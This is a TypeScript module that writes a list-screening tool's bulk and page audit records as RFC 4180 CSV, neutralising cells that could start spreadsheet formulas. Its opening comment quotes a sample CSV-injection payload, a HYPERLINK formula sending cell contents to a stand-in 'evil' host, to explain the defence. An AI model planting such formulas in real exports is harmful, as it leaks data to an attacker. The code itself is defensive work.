// CSV exports of audit records. Cells are quoted per RFC 4180, and any cell a spreadsheet
// could read as a formula (=, +, -, @, or a tab / carriage return / line feed first) gets a
// leading apostrophe: list data and page text are not ours, and a name like
// `=HYPERLINK("http://evil/?"&A1)` must arrive as text (OWASP "CSV injection").
import type { MatchRecord } from '../../../core/match-record';
import type { Criterion, Evidence } from '../../../core/types';
import type { AuditEntity, AuditList, BulkAuditRecord, PageAuditRecord } from './types';

const FORMULA_START = /^[=+\-@\t\r\n]/;
// Leading spaces do not stop every spreadsheet from evaluating "  =1+1".
const FORMULA_AFTER_SPACE = /^[ \u00a0]+[=+\-@]/;

/** One cell: neutralised if it could start a formula, then quoted if it needs to be. */
export function csvCell(value: string | number | boolean | null | undefined): string {
  let s = value === null || value === undefined ? '' : String(value);
  if (FORMULA_START.test(s) || FORMULA_AFTER_SPACE.test(s)) s = `'${s}`;
  if (/[",\r\n;\t]/.test(s) || s !== s.trim()) return `"${s.replace(/"/g, '""')}"`;
  return s;
}

/** Rows to CSV text: comma-separated, CRLF line ends (RFC 4180). */
export function toCsv(rows: readonly (readonly (string | number | boolean | null | undefined)[])[]): string {
  return rows.map((r) => r.map(csvCell).join(',')).join('\r\n') + '\r\n';
}

/** Evidence in a compact, language-neutral form ("legal-form: NV; field: supplier"). */
export function evidenceText(evidence: readonly Evidence[]): string {
  return evidence
    .map((e) => {
      switch (e.kind) {
        case 'legal-form':
        case 'company-word':
        case 'country':
        case 'case':
        case 'full-name-on-page':
          return `${e.kind}: ${e.text}`;
        case 'field':
          return `field: ${e.field}`;
        case 'product':
          return `product: ${e.text}`;
        case 'foreign-word':
          return `foreign-word: ${e.lang}`;
        case 'no-corroboration':
          return `no-corroboration: ${e.reason}`;
        case 'link-not-current':
          return `link-not-current: ${e.status}${e.note ? ` (${e.note})` : ''}`;
        case 'delisted-only':
          return 'delisted-only';
      }
    })
    .join('; ');
}

export function criteriaText(criteria: readonly Criterion[]): string {
  return criteria.map((c) => (/^[a-z0-9]{1,3}$/i.test(c.code) ? `(${c.code}) ${c.text}` : c.text)).join(' | ');
}

/** "id@version" of every list switched on: on every line, so a filtered sheet still says what was checked. */
function listsChecked(lists: readonly AuditList[]): string {
  return lists
    .filter((l) => l.enabled)
    .map((l) => `${l.id}@${l.version}`)
    .join('; ');
}

/** "id@version sha256:<hex>" of every list switched on: the exact list files the check used. */
function listsCheckedSha256(lists: readonly AuditList[]): string {
  return lists
    .filter((l) => l.enabled)
    .map((l) => `${l.id}@${l.version} sha256:${l.sha256}`)
    .join('; ');
}

/**
 * The cells of one match record and one of its list entries: the record's fields under the
 * CSV's column names, the same for bulk and page exports. The record's `field` is the bulk
 * row's or the page match's `field` column.
 */
interface RecordCells {
  match_level: string;
  matched_text: string;
  match_type: string;
  entity: string;
  matched_name: string;
  evidence: string;
  rule: string;
  entity_id: string;
  list_id: string;
  list_entry: string;
  entry_status: string;
  list_kind: string;
  entry_standing: string;
  entry_standing_date: string;
  list_version: string;
  list_sha256: string;
  criteria: string;
}

const NO_MATCH: RecordCells = {
  match_level: '',
  matched_text: '',
  match_type: '',
  entity: '',
  matched_name: '',
  evidence: '',
  rule: '',
  entity_id: '',
  list_id: '',
  list_entry: '',
  entry_status: '',
  list_kind: '',
  entry_standing: '',
  entry_standing_date: '',
  list_version: '',
  list_sha256: '',
  criteria: '',
};

/** One set of cells per list entry the match names (long format: filterable by list). */
function recordCells(m: MatchRecord, entities: Map<string, AuditEntity>, lists: Map<string, AuditList>): RecordCells[] {
  const entity = entities.get(m.entity);
  return m.lists.map((l) => {
    const entry = entity?.entries.find((e) => e.list === l.list && e.entry === l.entry);
    const list = lists.get(l.list);
    return {
      match_level: m.level,
      matched_text: m.text,
      match_type: m.matchType,
      entity: m.entityName,
      matched_name: m.name,
      evidence: evidenceText(m.evidence),
      rule: m.rule,
      entity_id: m.entity,
      list_id: l.list,
      list_entry: l.entry,
      entry_status: l.status,
      list_kind: l.kind ?? '',
      // Removed, revoked and exclusion-revoked entries are history: their standing says which.
      entry_standing: l.standing,
      entry_standing_date: l.standingOn ?? '',
      list_version: list?.version ?? '',
      list_sha256: list?.sha256 ?? '',
      criteria: entry ? criteriaText(entry.criteria) : '',
    };
  });
}

export const BULK_CSV_COLUMNS = [
  'row',
  'source',
  'input',
  'field',
  'result',
  'match_level',
  'matched_text',
  'match_type',
  'entity',
  'matched_name',
  'list_id',
  'list_version',
  'list_sha256',
  'list_entry',
  'entry_status',
  'criteria',
  'evidence',
  'lookalike',
  'dismissed',
  'input_file',
  'input_sha256',
  'checked_at',
  'lists_checked',
  // Added later; new columns go at the end so column positions stay stable.
  'list_kind',
  'entry_standing',
  'entry_standing_date',
  'lists_checked_sha256',
  'rule',
  'entity_id',
] as const;

type BulkLine = Record<(typeof BULK_CSV_COLUMNS)[number], string | number>;

/**
 * A bulk screening as CSV: one line per list entry a row's match names, one line for a row
 * with no match. The CLI's `--format csv` writes exactly this.
 */
export function bulkCsv(record: BulkAuditRecord): string {
  const entities = new Map(record.entities.map((e) => [e.id, e]));
  const lists = new Map(record.lists.map((l) => [l.id, l]));
  const tail = {
    input_file: record.input.fileName ?? '',
    input_sha256: record.input.sha256,
    checked_at: record.createdAt,
    lists_checked: listsChecked(record.lists),
    lists_checked_sha256: listsCheckedSha256(record.lists),
  };
  const lines: BulkLine[] = [];
  for (const r of record.rows) {
    const head = { row: r.row, source: r.source, input: r.input, field: r.field ?? '', result: r.result };
    const lookalike = r.lookalikes
      .map((g) => (g.notEntityName ? `${g.text}: not ${g.notEntityName}${g.reason ? ` (${g.reason})` : ''}` : g.text))
      .join('; ');
    if (r.matches.length === 0) {
      lines.push({ ...head, ...NO_MATCH, lookalike, dismissed: '', ...tail });
      continue;
    }
    for (const m of r.matches) {
      for (const cells of recordCells(m, entities, lists)) {
        lines.push({ ...head, ...cells, lookalike, dismissed: m.dismissed?.reason ?? '', ...tail });
      }
    }
  }
  return toCsv([[...BULK_CSV_COLUMNS], ...lines.map((l) => BULK_CSV_COLUMNS.map((c) => l[c]))]);
}

export const PAGE_CSV_COLUMNS = [
  'section',
  'entity',
  'matched_text',
  'occurrences',
  'match_level',
  'match_type',
  'matched_name',
  'field',
  'evidence',
  'context',
  'list_id',
  'list_version',
  'list_sha256',
  'list_entry',
  'entry_status',
  'criteria',
  'dismissed',
  'page_url',
  'scanned_at',
  'checked_at',
  'lists_checked',
  // Added later; new columns go at the end so column positions stay stable.
  'list_kind',
  'entry_standing',
  'entry_standing_date',
  'lists_checked_sha256',
  'rule',
  'entity_id',
] as const;

type PageLine = Record<(typeof PAGE_CSV_COLUMNS)[number], string | number>;

/** A page's findings as CSV: one line per matched text and list entry; look-alikes last. */
export function pageCsv(record: PageAuditRecord): string {
  const entities = new Map(record.entities.map((e) => [e.id, e]));
  const lists = new Map(record.lists.map((l) => [l.id, l]));
  const tail = {
    page_url: record.page.url,
    scanned_at: record.page.scannedAt ?? '',
    checked_at: record.createdAt,
    lists_checked: listsChecked(record.lists),
    lists_checked_sha256: listsCheckedSha256(record.lists),
  };
  const lines: PageLine[] = [];
  for (const f of record.findings) {
    for (const m of f.matches) {
      for (const cells of recordCells(m, entities, lists)) {
        lines.push({
          section: f.section,
          ...cells,
          entity: f.entityName,
          occurrences: m.occurrences,
          field: m.field ?? '',
          context: m.context,
          dismissed: m.dismissed?.reason ?? '',
          ...tail,
        });
      }
    }
  }
  for (const g of record.lookalikes) {
    lines.push({
      section: 'lookalike',
      ...NO_MATCH,
      entity: g.notEntityName ? `not ${g.notEntityName}` : '',
      matched_text: g.text,
      occurrences: '',
      field: '',
      evidence: g.reason ?? '',
      context: '',
      dismissed: '',
      ...tail,
    });
  }
  return toCsv([[...PAGE_CSV_COLUMNS], ...lines.map((l) => PAGE_CSV_COLUMNS.map((c) => l[c]))]);
}
